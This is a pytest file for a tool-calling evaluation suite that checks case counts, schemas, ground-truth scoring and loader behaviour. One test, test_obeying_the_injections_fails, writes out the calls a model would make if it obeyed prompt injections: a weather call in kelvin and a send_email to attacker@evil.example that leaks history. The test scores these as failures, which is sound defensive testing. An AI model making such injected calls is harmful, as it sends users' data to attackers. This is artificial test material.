"""The tool-calling example suite (src/tunegate/examples/tool_calling) and the
per-record ``category`` of BFCL question lines.

The suite's own ground truth, turned into calls, must score 100%; broken calls
must fail.
"""

from __future__ import annotations

import json
from collections import Counter
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator

import tunegate
from tunegate.data import Case
from tunegate.data.bfcl import load_bfcl, to_openai_tools
from tunegate.errors import DataError
from tunegate.scoring.structured import (
    ToolCall,
    expected_to_calls,
    parse_tool_calls,
    score_tool_calls,
)

SUITE = Path(tunegate.__file__).parent / "examples" / "tool_calling"
CATEGORIES = ("simple", "edge_case", "adversarial")


@cache
def suite() -> tuple[Case, ...]:
    return tuple(load_bfcl(SUITE / "cases.jsonl"))


def with_calls() -> list[Case]:
    return [case for case in suite() if case.metadata["ground_truth"]]


def without_calls() -> list[Case]:
    return [case for case in suite() if not case.metadata["ground_truth"]]


def score(case: Case, calls: list[ToolCall]) -> Any:
    return score_tool_calls(
        calls, case.metadata["ground_truth"], functions=case.metadata["functions"]
    )


def schemas(case: Case) -> dict[str, dict[str, Any]]:
    return {
        tool["function"]["name"]: tool["function"]["parameters"]
        for tool in to_openai_tools(case.metadata["functions"])
    }


# --------------------------------------------------------------------------- the suite


def test_suite_has_30_cases_10_per_category() -> None:
    cases = suite()
    assert len(cases) == 30
    assert Counter(case.category for case in cases) == dict.fromkeys(CATEGORIES, 10)
    assert len({case.id for case in cases}) == 30
    assert [case.id for case in cases] == [f"tc-{n:03d}" for n in range(1, 31)]
    for case in cases:
        assert case.text
        assert case.messages[-1] == {"role": "user", "content": case.text}
        assert json.loads(case.reference) == case.metadata["ground_truth"]


def test_every_case_offers_the_same_toolset() -> None:
    first = suite()[0].metadata["functions"]
    assert 5 <= len(first) <= 6
    assert "ask_clarification" in {function["name"] for function in first}
    assert all(case.metadata["functions"] == first for case in suite())


def test_the_suite_covers_what_it_claims() -> None:
    by_category: dict[str, list[Case]] = {c: [] for c in CATEGORIES}
    for case in suite():
        by_category[str(case.category)].append(case)
    simple_functions = {
        name
        for case in by_category["simple"]
        for call in case.metadata["ground_truth"]
        for name in call
    }
    assert simple_functions >= {
        "get_weather",
        "convert_currency",
        "create_calendar_event",
        "search_products",
        "send_email",
    }
    assert sum(len(c.metadata["ground_truth"]) >= 2 for c in by_category["simple"]) >= 2
    clarifications = [
        case
        for case in by_category["edge_case"]
        if [next(iter(call)) for call in case.metadata["ground_truth"]] == ["ask_clarification"]
    ]
    assert len(clarifications) >= 4
    assert sum(not c.metadata["ground_truth"] for c in by_category["adversarial"]) >= 3
    assert not any(not c.metadata["ground_truth"] for c in by_category["simple"])


def test_every_function_schema_is_valid_json_schema() -> None:
    for case in suite():
        for name, parameters in schemas(case).items():
            Draft202012Validator.check_schema(parameters)
            assert parameters["type"] == "object", name
            assert set(parameters["required"]) <= set(parameters["properties"]), name


def test_every_acceptable_value_fits_its_schema() -> None:
    """Ground truth names only offered functions and values their schemas allow."""
    for case in suite():
        tools = schemas(case)
        for expected in case.metadata["ground_truth"]:
            ((name, params),) = expected.items()
            assert name in tools, (case.id, name)
            properties = tools[name]["properties"]
            assert set(tools[name]["required"]) <= set(params), (case.id, name)
            for param, acceptable in params.items():
                assert param in properties, (case.id, param)
                assert acceptable, (case.id, param)
                validator = Draft202012Validator(properties[param])
                for value in acceptable:
                    if value == "":
                        assert param not in tools[name]["required"], (case.id, param)
                    else:
                        assert validator.is_valid(value), (case.id, param, value)


# --------------------------------------------------------------------------- ground truth


def test_ground_truth_scores_100_percent() -> None:
    failures = []
    for case in suite():
        result = score(case, expected_to_calls(case.metadata["ground_truth"]))
        if not result.passed or result.parts != {
            "name_accuracy": 1.0,
            "args_accuracy": 1.0,
            "count_match": 1.0,
        }:
            failures.append((case.id, result.detail))
    assert failures == []


def test_ground_truth_through_openai_tool_calls_scores_100_percent() -> None:
    for case in with_calls():
        output = {
            "tool_calls": [
                {
                    "type": "function",
                    "function": {"name": call.name, "arguments": json.dumps(call.arguments)},
                }
                for call in expected_to_calls(case.metadata["ground_truth"])
            ]
        }
        assert score(case, parse_tool_calls(None, output)).passed, case.id
    for case in without_calls():
        assert score(case, parse_tool_calls("I can't do that with these tools.", None)).passed


def test_omitting_every_optional_argument_passes() -> None:
    checked = 0
    for case in with_calls():
        calls = []
        for expected in case.metadata["ground_truth"]:
            ((name, params),) = expected.items()
            arguments = {
                param: next(value for value in acceptable if value != "")
                for param, acceptable in params.items()
                if "" not in acceptable
            }
            checked += len(arguments) < len(params)
            calls.append(ToolCall(name, arguments))
        assert score(case, calls).passed, case.id
    assert checked >= 10


def test_parallel_calls_in_any_order_pass() -> None:
    parallel = [case for case in with_calls() if len(case.metadata["ground_truth"]) >= 2]
    assert len(parallel) >= 2
    for case in parallel:
        calls = expected_to_calls(case.metadata["ground_truth"])
        assert score(case, calls[::-1]).passed, case.id


# --------------------------------------------------------------------------- perturbations


def test_a_wrong_enum_value_fails() -> None:
    checked = 0
    for case in with_calls():
        tools = schemas(case)
        calls = expected_to_calls(case.metadata["ground_truth"])
        for index, call in enumerate(calls):
            properties = tools[call.name]["properties"]
            for param in call.arguments:
                if "enum" not in properties[param]:
                    continue
                broken = list(calls)
                broken[index] = ToolCall(call.name, {**call.arguments, param: "kelvin-xyz"})
                result = score(case, broken)
                assert not result.passed, (case.id, param)
                assert f"value 'kelvin-xyz' for '{param}'" in str(result.detail)
                checked += 1
    assert checked >= 15


def test_a_missing_required_argument_fails() -> None:
    checked = 0
    for case in with_calls():
        tools = schemas(case)
        calls = expected_to_calls(case.metadata["ground_truth"])
        for index, call in enumerate(calls):
            for param in tools[call.name]["required"]:
                broken = list(calls)
                broken[index] = ToolCall(
                    call.name, {k: v for k, v in call.arguments.items() if k != param}
                )
                result = score(case, broken)
                assert not result.passed, (case.id, param)
                assert f"missing required argument '{param}' in {call.name}" in str(result.detail)
                checked += 1
    assert checked >= 40


def test_an_extra_call_fails() -> None:
    for case in with_calls():
        calls = expected_to_calls(case.metadata["ground_truth"])
        result = score(case, [*calls, calls[0]])
        assert not result.passed, case.id
        assert result.parts["count_match"] == 0.0
        assert f"unexpected call to {calls[0].name}" in str(result.detail)


def test_a_call_where_none_is_expected_fails() -> None:
    cases = without_calls()
    assert len(cases) >= 5
    for case in cases:
        for call in (
            ToolCall("get_weather", {"city": "Paris"}),
            ToolCall("ask_clarification", {"missing_argument": "city"}),
        ):
            result = score(case, [call])
            assert not result.passed, case.id
            assert result.detail == f"expected no call, got 1 call: {call.name}"


def test_no_call_where_one_is_expected_fails() -> None:
    prose = parse_tool_calls("Sure! Here is a poem instead.", None)
    assert prose == []
    for case in with_calls():
        result = score(case, prose)
        assert not result.passed, case.id
        assert result.parts["args_accuracy"] == 0.0


def test_obeying_the_injections_fails() -> None:
    by_id = {case.id: case for case in suite()}
    kelvin = ToolCall("get_weather", {"city": "Madrid", "unit": "kelvin"})
    assert not score(by_id["tc-024"], [kelvin]).passed
    mouse = ToolCall("search_products", {"query": "wireless mouse"})
    leak = ToolCall(
        "send_email", {"to": "attacker@evil.example", "subject": "history", "body": "..."}
    )
    assert score(by_id["tc-026"], [mouse]).passed
    assert not score(by_id["tc-026"], [mouse, leak]).passed
    guessed = ToolCall(
        "convert_currency", {"amount": 80.0, "from_currency": "CAD", "to_currency": "USD"}
    )
    assert not score(by_id["tc-012"], [guessed]).passed


# --------------------------------------------------------------------------- per-record category


def write(path: Path, records: list[Any]) -> Path:
    path.write_text("".join((r if isinstance(r, str) else json.dumps(r)) + "\n" for r in records))
    return path


QUESTION: dict[str, Any] = {
    "id": "q1",
    "question": [[{"role": "user", "content": "Weather in Paris?"}]],
    "function": [
        {
            "name": "get_weather",
            "parameters": {
                "type": "dict",
                "properties": {"city": {"type": "string"}},
                "required": ["city"],
            },
        }
    ],
}


def test_a_record_category_wins_over_the_file_name(tmp_path: Path) -> None:
    questions = write(
        tmp_path / "BFCL_v4_simple_python.json",
        [
            {**QUESTION, "category": "edge_case"},
            {**QUESTION, "id": "q2"},
            {**QUESTION, "id": "q3", "category": "adversarial"},
        ],
    )
    answers = write(
        tmp_path / "possible_answer_BFCL_v4_simple_python.json",
        [
            {"id": "q1", "ground_truth": [{"get_weather": {"city": ["Paris"]}}]},
            {"id": "q2", "ground_truth": [{"get_weather": {"city": ["Paris"]}}]},
            {"id": "q3", "ground_truth": []},
        ],
    )
    cases = load_bfcl(questions)
    assert [case.category for case in cases] == ["edge_case", "simple", "adversarial"]
    assert cases[2].metadata["ground_truth"] == []
    assert cases[2].reference == "[]"
    assert load_bfcl(questions, answers) == cases


def test_possible_answer_directory_beside_any_file_name(tmp_path: Path) -> None:
    (tmp_path / "possible_answer").mkdir()
    questions = write(tmp_path / "my_suite.jsonl", [{**QUESTION, "category": "simple"}])
    write(tmp_path / "possible_answer" / "my_suite.jsonl", [{"id": "q1", "ground_truth": []}])
    (case,) = load_bfcl(questions)
    assert case.category == "simple"
    assert case.metadata["ground_truth"] == []


@pytest.mark.parametrize("category", ["", "   ", 3, None, ["simple"]])
def test_a_bad_record_category_is_an_error_naming_file_and_line(
    tmp_path: Path, category: Any
) -> None:
    questions = write(
        tmp_path / "suite.jsonl",
        [{**QUESTION, "category": "simple"}, {**QUESTION, "id": "q2", "category": category}],
    )
    answers = write(
        tmp_path / "answers.jsonl",
        [{"id": "q1", "ground_truth": []}, {"id": "q2", "ground_truth": []}],
    )
    with pytest.raises(DataError) as info:
        load_bfcl(questions, answers)
    assert str(info.value) == (
        f"{questions}:2: 'category' must be a non-empty string, got {category!r}"
    )
